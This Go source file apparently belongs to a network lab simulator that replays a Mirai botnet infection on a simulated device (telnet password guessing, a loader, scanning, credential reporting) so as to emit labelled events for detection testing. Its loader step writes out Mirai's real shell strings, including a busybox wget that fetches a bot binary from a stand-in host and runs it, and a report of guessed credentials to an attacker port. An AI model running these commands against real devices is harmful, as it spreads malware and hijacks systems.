package attack

import (
	"net/netip"
	"time"

	"cordon"
	"cordon/lab/synth/dialogue"
	"cordon/lab/synth/message"
	"cordon/lab/synth/world"
)

// The pace of the story of Mirai, as the capture of 2016-11-07 shows it but for
// the minute of quiet, which lets each stage be seen by itself.
const (
	beforeLoader = 9 * time.Second
	beforeScan   = time.Minute
	beforeAttack = 150 * time.Second // from the bot's log-in to the first command
	binarySize   = 60_000
)

// toScan is more than passes between the first byte of the binary and the scan.
const toScan = beforeScan + 20*time.Second

// Infect is the whole story: strangers guess the password of d's telnet server,
// one gets in; a loader comes and lets d fetch a program; that logs in to its
// server, begins to scan and to guess, and at last attacks somebody.
func Infect(tell Tell) world.Behaviour {
	return func(p *world.Proc, d *world.Device) {
		tell(Deed{Kind: cordon.BruteforceInbound, At: p.Now(), Within: 30 * time.Second})
		for n := range 3 {
			p.After(time.Duration(n)*3*time.Second, func(p *world.Proc) { guessAt(p, d) })
		}
		p.Sleep(22 * time.Second)
		enter(p, d, stranger(p, world.Answers))
		p.Sleep(beforeLoader)
		load(p, d, tell)
		p.Sleep(p.Jitter(600*time.Millisecond, 0.3))
		askDirectly(p, d, "cnc.loader.example.net")
		bot := bot{server: lair(p, "cnc.loader.example.net"), port: 23, id: "telnet.mips", attackAfter: beforeAttack}
		p.Go(func(p *world.Proc) { bot.run(p, d, tell) })
		p.Sleep(beforeScan)
		spread(p, d, tell)
	}
}

// guessAt is one host that tries a dozen passwords at d, three on a connection.
func guessAt(p *world.Proc, d *world.Device) {
	from := stranger(p, world.Answers)
	for n := 0; n < 12; n += 3 {
		c := d.Accept(p, from, 23)
		if c.Outcome != world.Answers {
			return
		}
		t := dialogue.OpenTelnet(p, c, d.Name)
		for i := range 3 {
			t.Login(user(n+i), password(n+i), false)
		}
		c.Quit()
		if !p.Sleep(p.Poisson(500 * time.Millisecond)) {
			return
		}
	}
}

// enter is the host whose third password is right: it finds out that there is a
// shell and tells others.
func enter(p *world.Proc, d *world.Device, from world.End) {
	c := d.Accept(p, from, 23)
	if c.Outcome != world.Answers {
		return
	}
	t := dialogue.OpenTelnet(p, c, d.Name)
	t.Login("admin", "guess1", false)
	t.Login("root", "guess2", false)
	t.Login("root", "guess3", true)
	becomeShell(t)
	t.Run("/bin/busybox MIRAI", "MIRAI: applet not found")
	c.Close()
}

// becomeShell is what a bot sends in order to have a shell in whatever it met.
func becomeShell(t *dialogue.Telnet) {
	for _, command := range []string{"enable", "system", "shell"} {
		t.Run(command, "-ash: "+command+": not found")
	}
	t.Run("sh", "")
}

// load is the loader: it knows the password, looks around and lets d fetch and
// run the bot. The deed is the fetching.
func load(p *world.Proc, d *world.Device, tell Tell) {
	c := d.Accept(p, stranger(p, world.Answers), 23)
	if c.Outcome != world.Answers {
		return
	}
	t := dialogue.OpenTelnet(p, c, d.Name)
	t.Login("root", "guess3", true)
	becomeShell(t)
	const done = "ECCHI: applet not found"
	t.Run("/bin/busybox ECCHI", done)
	t.Run("/bin/busybox cat /proc/mounts; /bin/busybox ECCHI", "/dev/root / squashfs ro 0 0\r\ntmpfs /var tmpfs rw 0 0\r\n"+done)
	t.Run("cd /var; /bin/busybox cp /bin/echo dvrHelper; >dvrHelper; /bin/busybox chmod 777 dvrHelper; /bin/busybox ECCHI", done)
	from := lair(p, "bins.loader.example.net")
	t.Start("/bin/busybox wget http://" + from.Addr.String() + "/bins/mirai.mips -O - > dvrHelper; /bin/busybox chmod 777 dvrHelper; /bin/busybox ECCHI")
	tell(Deed{Kind: cordon.InfectionChain, Or: cordon.ExploitDownloader, At: p.Now(), Within: 5 * time.Second, ActWithin: toScan})
	fetch(p, d, from, "/bins/mirai.mips")
	t.Done("Connecting to " + from.Addr.String() + "\r\n" + done)
	t.Run("./dvrHelper telnet.mips; /bin/busybox IHCCE", "IHCCE: applet not found")
	c.Close()
}

// fetch is d's wget of a program from a bare address.
func fetch(p *world.Proc, d *world.Device, from world.End, path string) {
	c := d.Dial(p, from, 80)
	if c.Outcome != world.Answers {
		return
	}
	c.Ask(message.HTTPGet(from.Addr.String(), path, "Wget"), message.HTTPFile("application/octet-stream", message.ELF(binarySize)))
	c.Quit()
}

// askDirectly asks a public resolver for a name, past the home's own, as Mirai
// does (detection.md §A1).
func askDirectly(p *world.Proc, d *world.Device, name string) {
	resolver := &world.Host{Addr: netip.AddrFrom4([4]byte{8, 8, 8, 8}), Hops: 9, Delay: 14 * time.Millisecond}
	id := uint16(p.Uint32())
	d.Talk(p, p.World.Far(resolver, false), 53).Ask(message.DNSQuery(id, name, message.TypeA),
		message.DNSAnswer(id, name, message.TypeA, 0, 300, p.World.Net.Named(name).Addr))
}

// spread is Mirai's scan; whoever answers has to stand a few passwords, and the
// twentieth of them has one of those.
func spread(p *world.Proc, d *world.Device, tell Tell) {
	tell(Deed{Kind: cordon.ScanMirai, At: p.Now(), Within: time.Second})
	tell(Deed{Kind: cordon.ScanHorizontal, At: p.Now(), Within: time.Second})
	tell(Deed{Kind: cordon.BruteforceOutbound, At: p.Now(), Within: time.Minute})
	hosts := 0
	scanMirai(p, d, func(to world.End, port uint16) {
		hosts++
		right := -1
		if hosts == 20 {
			right = 2
		}
		p.After(to.Delay+200*time.Millisecond, func(p *world.Proc) {
			if guessTelnet(p, d, to, port, right) {
				reportTo(p, d, netip.AddrPortFrom(to.Addr, port))
			}
		})
	})
}

// reportTo tells the attackers of a password that was right, at their port 48101.
func reportTo(p *world.Proc, d *world.Device, host netip.AddrPort) {
	c := d.Dial(p, lair(p, "report.loader.example.net"), 48101)
	if c.Outcome == world.Answers {
		c.Up(message.MiraiReport(host, user(2), password(2)))
		c.Close()
	}
}
